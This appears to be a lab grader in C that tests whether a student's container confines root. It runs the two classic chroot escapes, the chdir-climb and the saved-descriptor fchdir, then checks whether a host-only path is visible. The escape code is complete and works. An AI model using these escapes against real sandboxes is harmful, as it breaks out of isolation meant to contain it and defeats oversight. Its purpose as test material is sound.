/* labs/02-chroot/grader/escape.c — the two classic ways out of a chroot(2).
 *
 * usage: escape chdir|fd HOST_PATH
 * Run as root inside a new root. Prints "escaped: HOST_PATH is visible" and
 * exits 0 when, after the attempt, HOST_PATH (a path that exists only on the
 * host) can be seen; prints "contained" and exits 1 when it cannot; exits 2
 * on a usage or system error.
 *
 *   chdir  mkdir a directory, chroot(2) into it but stay where we are: our
 *          cwd is now outside our root, and the kernel stops ".." only AT the
 *          root, so chdir("..") climbs up to the real "/", where chroot(".")
 *          makes it our root again.
 *   fd     the same with a descriptor: keep an fd of the current root, chroot
 *          into a subdirectory and chdir("/") into it like a careful program,
 *          then fchdir(fd) steps back outside, and climb the same way.
 *
 * Both work because chroot only moves the process's root directory. After a
 * pivot_root that detached the old root there is nothing above "/" in the
 * mount namespace: ".." of "/" is "/", and the climb ends where it began.
 * Built static (gcc -static): the root it runs in has no libc.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char* what) {
  fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
  return 2;
}

/* Climbs as far as ".." goes, then makes that the root. */
static int climb_and_chroot(void) {
  for (int i = 0; i < 256; ++i)
    if (chdir("..") != 0) return fail("chdir ..");
  if (chroot(".") != 0) return fail("chroot .");
  return 0;
}

int main(int argc, char* argv[]) {
  if (argc != 3 || (strcmp(argv[1], "chdir") != 0 && strcmp(argv[1], "fd") != 0)) {
    fprintf(stderr, "usage: escape chdir|fd HOST_PATH\n");
    return 2;
  }
  const char* host_path = argv[2];
  const char* jail = "/.escape-jail";
  if (mkdir(jail, 0700) != 0 && errno != EEXIST) return fail("mkdir /.escape-jail");

  if (strcmp(argv[1], "chdir") == 0) {
    if (chdir("/") != 0) return fail("chdir /");
    if (chroot(jail) != 0) return fail("chroot /.escape-jail");  /* cwd stays outside */
  } else {
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd < 0) return fail("open /");
    if (chroot(jail) != 0) return fail("chroot /.escape-jail");
    if (chdir("/") != 0) return fail("chdir /");                  /* inside, as it should be */
    if (fchdir(fd) != 0) return fail("fchdir to the old root");   /* and out again */
    close(fd);
  }
  int rc = climb_and_chroot();
  if (rc != 0) return rc;

  struct stat st;
  if (stat(host_path, &st) == 0) {
    printf("escaped: %s is visible\n", host_path);
    return 0;
  }
  printf("contained\n");
  return 1;
}
